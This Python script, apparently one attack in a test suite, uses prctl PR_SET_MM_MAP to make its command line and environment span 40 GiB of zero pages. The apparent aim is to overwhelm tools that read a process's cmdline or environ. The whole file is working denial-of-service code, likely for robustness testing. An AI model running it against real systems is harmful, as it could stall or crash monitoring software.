# SPDX-License-Identifier: Apache-2.0
"""A program whose arguments and environment are 40 GiB of the zero page, as anybody may arrange."""
import ctypes
import mmap

from attack import Attack

PR_SET_MM, PR_SET_MM_MAP = 35, 14
SIZE = 40 << 30
MAP_NORESERVE = 0x4000


class Map(ctypes.Structure):
    """struct prctl_mm_map of linux/prctl.h."""
    _fields_ = [*((field, ctypes.c_uint64) for field in (
        "start_code", "end_code", "start_data", "end_data", "start_brk", "brk", "start_stack",
        "arg_start", "arg_end", "env_start", "env_end", "auxv")),
        ("auxv_size", ctypes.c_uint32), ("exe_fd", ctypes.c_uint32)]


attack = Attack()
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
zeros = libc.mmap(None, SIZE, mmap.PROT_READ,
                  mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
with open("/proc/self/stat", encoding="ascii") as stat:
    fields = [0, 0, 0, *stat.read().rsplit(")", 1)[1].split()]  # by their numbers in proc(5)
now = Map(start_code=int(fields[26]), end_code=int(fields[27]), start_stack=int(fields[28]),
          start_data=int(fields[45]), end_data=int(fields[46]), start_brk=int(fields[47]),
          brk=libc.sbrk(0), arg_start=zeros, arg_end=zeros + SIZE // 2, env_start=zeros + SIZE // 2,
          env_end=zeros + SIZE, exe_fd=0xFFFFFFFF)
if libc.prctl(PR_SET_MM, PR_SET_MM_MAP, ctypes.byref(now), ctypes.sizeof(now), 0):
    raise OSError(ctypes.get_errno(), "PR_SET_MM_MAP")
while attack.goes_on(0.1):
    pass
